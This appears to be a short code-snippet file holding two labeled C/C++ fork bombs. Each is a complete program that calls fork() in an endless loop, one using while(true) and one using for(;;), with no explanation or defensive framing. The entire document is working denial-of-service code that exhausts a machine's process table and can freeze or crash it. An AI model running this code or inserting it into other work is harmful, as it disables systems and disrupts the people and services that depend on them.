//: fork bomb
#include <unistd.h>
int main() { while (true) fork(); } //!
//: fork bomb by for
#include <unistd.h>
int main() { for (;;) { fork(); } } //!
